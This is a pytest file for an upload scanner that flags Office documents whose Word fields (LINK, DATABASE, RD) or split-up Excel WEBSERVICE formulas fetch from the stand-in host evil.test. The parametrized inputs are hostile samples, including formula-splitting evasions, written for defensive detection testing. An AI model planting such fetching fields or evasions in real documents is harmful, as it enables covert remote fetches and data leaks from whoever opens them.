"""Office documents: fields that fetch, formulas in pieces, and lists of types without end."""

from __future__ import annotations

import pytest
from tests.uploads.kinds.asked import HONEST, rule_of
from tests.uploads.kinds.offices import document, docx, xlsx

from security.uploads.kinds import office_parts

MATHEMATICS = "http://schemas.openxmlformats.org/officeDocument/2006/math"


@pytest.mark.parametrize(
    ("instruction", "rule"),
    [
        (r"LINK Excel.Sheet.12 '\\evil.test\a.xlsx' Sheet1!R1C1 \a", "office.external"),
        (r"database \d '\\evil.test\a.mdb' \s 'SELECT 1'", "office.external"),
        ("RD 'https://evil.test/a.docx'", "office.external"),
        ("HYPERLINK 'https://a.test/' RD LINK", HONEST),
        ("EMBED Excel.Sheet.12", HONEST),
    ],
)
def test_a_field_does_not_fetch(instruction, rule):
    run = f"<w:p><w:fldChar/><w:instrText> {instruction} </w:instrText><w:fldChar/></w:p>"
    simple = f'<w:fldSimple w:instr=" {instruction} "/>'

    assert rule_of("docx", docx({"word/document.xml": document(run)})) == rule
    assert rule_of("docx", docx({"word/document.xml": document(simple)})) == rule


CALL = "SERVICE('https://evil.test/')"


@pytest.mark.parametrize(
    ("formula", "rule"),
    [
        ("<formula1><f>A1:A9</f></formula1><formula2> <f>B1</f> </formula2>", HONEST),
        ("<f>SUM(A1)</f><f/><f>SUM(B1)</f>", HONEST),
        (f"<f>WEB<definedName/>{CALL}</f>", "office.external"),
        (f"<f>WEB<other/>{CALL}</f>", "office.external"),
        (f"<f><other>WEB</other>{CALL}</f>", "office.external"),
        (f"<formula1><f>WEB</f>{CALL}</formula1>", "office.external"),
        (f"<formula1><f>WEB</f><f>{CALL}</f></formula1>", "office.external"),
        (f'<formula1>"<f>WEB{CALL}</f>"</formula1>', "office.external"),
        (f"<formula1><f>WEB{CALL}</f></formula1>", "office.external"),
        (f"<f><f/>WEB{CALL}</f>", "office.external"),
    ],
)
def test_a_formula_is_in_one_piece(formula, rule):
    sheet = f"<sheet><c>{formula}</c></sheet>".encode()

    assert rule_of("xlsx", xlsx({"xl/worksheets/sheet1.xml": sheet})) == rule


def test_a_fraction_is_no_formula_of_a_cell():
    fraction = "<m:f><m:num><m:t>P(A|B)</m:t></m:num><m:den><m:f><m:t>|x|</m:t></m:f></m:den></m:f>"
    text = document(f'<m:oMath xmlns:m="{MATHEMATICS}">{fraction}</m:oMath>')

    assert rule_of("docx", docx({"word/document.xml": text})) is HONEST


def test_types_meet_a_limit(monkeypatch):
    monkeypatch.setattr(office_parts, "MAX_ENDINGS", 20)
    few = tuple((f"/word/{number}.xml", "a/b") for number in range(20))
    many = tuple((f"/word/{number}.xml", "a/b") for number in range(30))

    assert rule_of("docx", docx(rows=few), max_entries=10) is HONEST
    assert rule_of("docx", docx(rows=many), max_entries=10) == "archive.entries"
